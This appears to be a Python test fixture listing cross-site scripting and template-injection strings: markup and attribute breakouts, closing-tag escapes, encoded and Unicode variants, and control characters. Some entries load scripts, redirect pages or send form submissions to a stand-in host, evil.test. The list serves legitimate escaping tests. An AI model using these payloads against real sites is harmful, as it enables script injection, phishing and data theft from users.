"""Texts that become something else where they are not treated as text.

Written for these tests after the kinds that cheat sheets of cross-site scripting collect: ways out of an
element, of a quoted and an unquoted attribute, of comments, styles and scripts, half tags, entities, schemes,
templates, and what parsers disagree about.
"""

MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<form action=//evil.test><button>Log in</button>", "<math><mtext></p><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src onerror=alert(1)>\">",
    "<style>*{background:url(//evil.test)}</style>", "<x style=animation-name:y onanimationstart=alert(1)>", "<!--",
    "-->", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[", "]]>", "<?xml ?>", "</", "<", ">", "<>", "<a", "</x",
    "<img src=x onerror=alert(1)//", "<<img src=x onerror=alert(1)>",
]

ATTRIBUTES = [
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1)", "\"", "'", "`", "\\\"", "\\'", "\" checked x=\"", "/><script>alert(1)</script>",
    "=\"\"><b>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

ELEMENTS = [
    "</bdi><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</textarea><svg onload=alert(1)>",
    "</label></form><form action=//evil.test>", "</style><script>alert(1)</script>", "</small></span><b>",
    "</p></main></body></html>", "</select></option></table>",
]

TEMPLATES = [
    "{{bank.name}}", "{{{title}}}", "{{#text}}x{{/text}}", "{{> error}}", "{{=<% %>=}}", "{tpp}", "{bank}", "{time}",
    "{", "}", "{{", "}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "$1 \\1 %s %n", "[[${x}]]",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&amp;", "&", "&quot;", "&amp;lt;",
    "&lt", "&nbsp",
]

UNICODE = [
    "<\u0301script>", "\"\u20e3", "'\u0301 onmouseover=alert(1)", "&\u0301lt;", ">\u0301", "\uff1cscript\uff1e",
    "\u2039b\u203a", "\u02ba onfocus=alert(1)", "\u212a<b>",
]

CONTROLS = [
    "\x00<script>alert(1)</script>", "<scr\x00ipt>", "\r\n\r\n<script>alert(1)</script>", "\x0b\x0c\x1b[31m",
    "\u2028\u2029", "\ufeff<b>", "\u202e<b>", "a\u200bb<i>", "\t\" onfocus=alert(1)\n",
]

#: What a name may be made of: each has a letter, and none has what nobody sees.
VISIBLE = MARKUP + ATTRIBUTES + ELEMENTS + TEMPLATES + ENTITIES + UNICODE

EVERYTHING = VISIBLE + CONTROLS
